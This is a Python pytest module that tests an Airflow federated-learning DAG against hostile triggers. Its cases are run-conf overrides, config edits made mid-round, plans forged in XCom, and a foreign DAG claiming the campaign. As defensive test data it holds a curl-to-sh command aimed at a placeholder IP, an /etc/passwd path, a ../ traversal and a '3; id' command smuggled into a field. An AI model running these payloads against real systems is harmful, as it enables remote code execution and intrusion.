"""Run parameters and sealed rounds against the real Airflow and facilities (docs/security.md,
R1, R2 and R10). One campaign serves every test of this module, in order:

1. a hostile conf triggered through the REST API fails before any push; no Slurm job is submitted;
2. a knob the config opened reaches the round; the config file edited between prepare and the
   aggregation changes nothing: the round completes with the plan it sealed, and the manifest's
   hashes are those of what was used;
3. a REST user with the trigger role (SimpleAuthManager ``user``) rewrites the plan in prepare's
   XCom (another command, an extra preamble line, another connection, a worker file as the model
   to push) and clears push and train: nothing of it is obeyed;
4. a run of another DAG naming this campaign is refused before any facility work, the campaign's
   folder unchanged.

Starts: the session's ``testbed`` (two facilities) and ``airflow_instance`` (api-server,
scheduler, dag-processor, triggerer; users ``admin`` and ``trigger``), stopped at the end of the
session by PID; the module's DAG files are removed at its end.
"""

from __future__ import annotations

import hashlib
import json
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml

from tests.conftest import TRIGGER_USER
from tests.plugins.xffl_airflow.federation.campaign_support import TRAINING, ti_states
from xffl_testbed.airflow_instance import AirflowError
from xffl_testbed.campaign import LocalFacility, install_federation_dag, write_config

pytestmark = pytest.mark.slow

HOSTILE_COMMAND = "curl -s http://203.0.113.9/x | sh; {python} -m xffl_tasks.train --model {model} --data {data} --out {out}"
DAG_ID = "xffl_guarded"
ROUND_RUN = "xffl__guarded__round-0000"
STEPS = ("site1.push", "site1.train", "site2.push", "site2.train")


def slurm_jobs(facility) -> list[str]:
    """Every job the facility's Slurm knows: queued or running (squeue) and ended (the completion log)."""
    queued = facility.ssh("squeue -h -o %i", check=False).stdout.split()
    ended = facility.ssh("sacct -c -n --parsable2 -o JobID", check=False).stdout.split()
    return sorted(set(queued) | set(ended))


def job_names(facility) -> list[str]:
    return facility.ssh("sacct -c -n --parsable2 -o JobName", check=False).stdout.split()


def remote_entries(facility, campaign: str) -> str:
    return facility.ssh(f"ls -d {facility.workdir}/*{campaign}* 2>/dev/null || true", check=False).stdout.strip()


def exists_at(facility, path: str) -> bool:
    return facility.ssh(f"test -e {path}", check=False).returncode == 0


def tree(folder: Path) -> list[tuple[str, int, int]]:
    return sorted((str(p.relative_to(folder)), p.lstat().st_size, p.lstat().st_mtime_ns) for p in folder.rglob("*"))


@dataclass
class Guarded:
    airflow: object
    site1: object
    site2: object
    storage: Path
    config: Path
    jobs_before: dict[str, list[str]]
    markers: dict[str, str] = field(default_factory=dict)

    @property
    def campaign_dir(self) -> Path:
        return self.storage / "guarded"

    def plan(self) -> dict:
        return json.loads((self.campaign_dir / "round-0000" / "plan.json").read_text())

    def manifest(self) -> dict:
        return json.loads((self.campaign_dir / "round-0000" / "manifest.json").read_text())


@pytest.fixture(scope="module")
def guarded(airflow_instance, testbed, corpora, tiny, tmp_path_factory):
    airflow = airflow_instance
    site1, site2 = testbed.facilities
    storage = tmp_path_factory.mktemp("guarded-storage")
    config = write_config(
        storage / "guarded.yaml", campaign="guarded", storage=storage, base_model=tiny / "model",
        python=site1.python, training=TRAINING, convergence={"max_rounds": 3},
        facilities=[LocalFacility(site1, corpora[site1.name]), LocalFacility(site2, corpora[site2.name])],
    )  # fmt: skip
    dag_file = install_federation_dag(airflow.dags_folder, config, name="guarded")
    airflow.wait_for_dag(DAG_ID, timeout=180, dag_file=dag_file)
    jobs_before = {f.name: slurm_jobs(f) for f in (site1, site2)}
    yield Guarded(airflow, site1, site2, storage, config, jobs_before)
    airflow.remove_dag_file(dag_file, DAG_ID)


def wait_for_task(airflow, run_id: str, task_id: str, state: str, timeout: float = 300) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = ti_states(airflow, DAG_ID, run_id).get(task_id, {}).get("state")
        if found == state:
            return
        assert found not in ("failed", "upstream_failed"), f"{task_id} is {found}"
        time.sleep(0.5)
    pytest.fail(f"{task_id} of {run_id} not {state} after {timeout} s")


def succeed(airflow, run_id: str, timeout: float = 900) -> None:
    if airflow.wait_for_run(DAG_ID, run_id, timeout=timeout) != "success":
        failed = {t: ti for t, ti in ti_states(airflow, DAG_ID, run_id).items() if ti["state"] == "failed"}
        logs = {t: airflow.task_log(DAG_ID, run_id, t, try_number=ti["try_number"])[-2000:] for t, ti in failed.items()}
        pytest.fail(f"the round failed: {logs}")


def test_a_hostile_run_conf_fails_before_any_push(guarded):
    airflow, site1, site2, storage = guarded.airflow, guarded.site1, guarded.site2, guarded.storage
    # a command override, a foreign config path and a ../ campaign, as anyone who may trigger
    # could send them: the run fails in prepare, which names each refused field
    hostile = {
        "round": 0,
        "campaign": "../other-campaign",
        "config": "/etc/passwd",
        "overrides": {"training": {"command": HOSTILE_COMMAND}},
    }
    run_id = airflow.trigger(DAG_ID, run_id="hostile", conf=hostile)
    assert airflow.wait_for_run(DAG_ID, run_id, timeout=300) == "failed"
    states = ti_states(airflow, DAG_ID, run_id)
    assert states["prepare"]["state"] == "failed" and states["prepare"]["try_number"] == 1  # refused, not retried
    for name in ("site1", "site2"):
        assert states[f"{name}.push"]["state"] == "upstream_failed"
        assert states[f"{name}.train"]["state"] == "upstream_failed"
    log = airflow.task_log(DAG_ID, run_id, "prepare", try_number=1)
    assert "run conf: config, overrides.training.command: not a setting a run may change" in log, log[-3000:]
    assert "params.campaign: a campaign name is 1-64 of" in log
    assert "203.0.113.9" not in log and "/etc/passwd" not in log  # the hostile values are not echoed

    # a knob of the wrong type is refused by the API itself: no run is created
    with pytest.raises(AirflowError) as refused:
        airflow.trigger(DAG_ID, run_id="hostile-typed", conf={"round": 0, "max_steps": "3; id"})
    assert " 400 " in str(refused.value) and "max_steps" in str(refused.value)
    assert "hostile-typed" not in [r["dag_run_id"] for r in airflow.dag_runs(DAG_ID)]

    # nothing reached a facility or the campaign storage
    assert {f.name: slurm_jobs(f) for f in (site1, site2)} == guarded.jobs_before
    for facility in (site1, site2):
        assert remote_entries(facility, "other-campaign") == "" and remote_entries(facility, "guarded") == ""
    assert not (storage / "guarded").exists() and not (storage.parent / "other-campaign").exists()


def test_the_round_obeys_the_plan_it_sealed_while_the_config_is_edited(guarded):
    airflow, site1 = guarded.airflow, guarded.site1
    run_id = airflow.trigger(DAG_ID, run_id=ROUND_RUN, conf={"round": 0, "max_steps": 3, "max_rounds": 1})
    wait_for_task(airflow, run_id, "prepare", "success")
    sealed_config = guarded.config.read_text()
    # the config author edits the file mid-round: a preamble line, a learning rate, a quorum
    marker = f"{site1.home}/edited-config-obeyed"
    edited = yaml.safe_load(sealed_config)
    edited["facilities"][0]["preamble"] = [f"touch {marker}"]
    edited["training"]["learning_rate"] = 0.0005
    edited["quorum"] = 1
    guarded.config.write_text(yaml.safe_dump(edited, sort_keys=False))
    succeed(airflow, run_id)

    plan, manifest = guarded.plan(), guarded.manifest()
    plan_file = guarded.campaign_dir / "round-0000" / "plan.json"
    assert manifest["plan"]["sha256"] == hashlib.sha256(plan_file.read_bytes()).hexdigest()
    assert manifest["config_sha256"] == plan["config_sha256"]
    assert plan["quorum"] == 2 and plan["facilities"][0]["sbatch"]["preamble"] == []
    assert "--learning-rate 0.003" in plan["facilities"][0]["command"]
    assert manifest["overrides"] == {"training": {"max_steps": 3}, "convergence": {"max_rounds": 1}}
    assert manifest["decision"]["stop"] is True
    assert {manifest["facilities"][n]["metrics"]["steps"] for n in ("site1", "site2")} == {3}  # TRAINING says 30
    assert not exists_at(site1, marker)
    script = site1.ssh(f"cat {plan['facilities'][0]['jobs_dir']}/*.sbatch").stdout
    assert plan["facilities"][0]["command"] in script and "edited-config-obeyed" not in script
    # the manifest's hashes are those of what was used: the pushed files are the plan's, the
    # aggregated ones the pulls'
    assert manifest["inputs"]["model_files"] == plan["input_model_sha256"]
    for name in ("site1", "site2"):
        pull = json.loads((guarded.campaign_dir / "round-0000" / "steps" / name / "pull.json").read_text())
        assert pull["plan_sha256"] == manifest["plan"]["sha256"]
        assert manifest["inputs"]["clients"][name] == pull["result"]["transfer"]["files"]
    for facility in (guarded.site1, guarded.site2):
        assert len(slurm_jobs(facility)) == len(guarded.jobs_before[facility.name]) + 1
    guarded.markers["config"] = marker


def test_a_trigger_role_user_who_rewrites_the_plan_in_xcom_is_not_obeyed(guarded, tmp_path):
    airflow, site1, site2 = guarded.airflow, guarded.site1, guarded.site2
    plan = guarded.plan()
    jobs_before = {f.name: slurm_jobs(f) for f in (site1, site2)}
    secret = tmp_path / "worker-only"
    secret.mkdir()
    (secret / "config.json").write_text('{"secret": "worker file"}')
    command_marker, preamble_marker = f"{site1.home}/xcom-command-obeyed", f"{site1.home}/xcom-preamble-obeyed"
    forged_site = {
        "conn_id": site2.conn_id, "workdir": site2.workdir, "command": f"touch {command_marker}",
        "sbatch": {"partition": site2.partition, "preamble": [f"touch {preamble_marker}"]},
        "remote_jobs": f"{site2.workdir}/forged", "remote_global": "forged/global", "remote_local": "forged/local",
    }  # fmt: skip
    forged = {
        **plan, "plan": str(secret / "plan.json"), "input_model": str(secret), "pushed_model": str(secret),
        "facilities": {"site1": forged_site, "site2": forged_site},
    }  # fmt: skip
    path = f"dags/{DAG_ID}/dagRuns/{ROUND_RUN}/taskInstances/prepare/xcomEntries"
    airflow.api("PATCH", f"{path}/return_value", user=TRIGGER_USER, json={"value": forged})
    shown = airflow.api("GET", f"{path}/return_value", user=TRIGGER_USER)["value"]
    assert (json.loads(shown) if isinstance(shown, str) else shown)["pushed_model"] == str(secret)  # the write took
    airflow.api("POST", f"dags/{DAG_ID}/clearTaskInstances", user=TRIGGER_USER, json={
        "dry_run": False, "dag_run_id": ROUND_RUN, "task_ids": list(STEPS), "only_failed": False,
    })  # fmt: skip
    deadline = time.monotonic() + 60
    while ti_states(airflow, DAG_ID, ROUND_RUN)["site1.train"]["try_number"] < 2 and time.monotonic() < deadline:
        time.sleep(0.5)
    succeed(airflow, ROUND_RUN)
    states = ti_states(airflow, DAG_ID, ROUND_RUN)
    assert all(states[task]["try_number"] == 2 for task in STEPS)  # they did run again, as cleared

    # no marker anywhere, no job with the forged options, the worker file was not pushed
    for facility in (site1, site2):
        for marker in (command_marker, preamble_marker, guarded.markers.get("config", "/nonexistent")):
            assert not exists_at(facility, marker)
        assert len(slurm_jobs(facility)) == len(jobs_before[facility.name]) + 1  # the cleared train's job
        assert not exists_at(facility, f"{facility.workdir}/forged")
        assert facility.ssh(f"grep -rl 'worker file' {facility.workdir} || true", check=False).stdout.strip() == ""
    assert not any(name.endswith("site1.train") for name in job_names(site2))
    for index, facility in enumerate((site1, site2)):
        script = facility.ssh(f"cat {plan['facilities'][index]['jobs_dir']}/*.sbatch").stdout
        assert plan["facilities"][index]["command"] in script and "xcom-" not in script
        push = json.loads((guarded.campaign_dir / "round-0000" / "steps" / facility.name / "push.json").read_text())
        assert push["result"]["files"] == plan["input_model_sha256"]
    assert guarded.plan() == plan  # the sealed plan itself is untouched


def test_a_run_of_another_dag_naming_this_campaign_is_refused_before_any_facility_work(guarded):
    airflow, site1, site2 = guarded.airflow, guarded.site1, guarded.site2
    other = write_config(
        guarded.storage / "intruder.yaml", campaign="intruder", storage=guarded.storage,
        base_model=Path(yaml.safe_load(guarded.config.read_text())["base_model"]), python=site1.python,
        training=TRAINING, facilities=[LocalFacility(site1, "/nonexistent"), LocalFacility(site2, "/nonexistent")],
    )  # fmt: skip
    dag_file = install_federation_dag(airflow.dags_folder, other, name="intruder")
    airflow.wait_for_dag("xffl_intruder", timeout=180, dag_file=dag_file)
    before, jobs_before = tree(guarded.campaign_dir), {f.name: slurm_jobs(f) for f in (site1, site2)}
    try:
        for number in (0, 1):
            run_id = airflow.trigger("xffl_intruder", run_id=f"intrude-{number}", conf={"campaign": "guarded", "round": number})
            assert airflow.wait_for_run("xffl_intruder", run_id, timeout=300) == "failed"
            states = ti_states(airflow, "xffl_intruder", run_id)
            assert states["prepare"]["state"] == "failed" and states["prepare"]["try_number"] == 1
            assert {states[f"{n}.push"]["state"] for n in ("site1", "site2")} == {"upstream_failed"}
            log = airflow.task_log("xffl_intruder", run_id, "prepare", try_number=1)
            assert "campaign guarded in" in log and "belongs to DAG xffl_guarded, not xffl_intruder" in log, log[-2000:]
    finally:
        airflow.remove_dag_file(dag_file, "xffl_intruder")
    assert tree(guarded.campaign_dir) == before
    assert {f.name: slurm_jobs(f) for f in (site1, site2)} == jobs_before
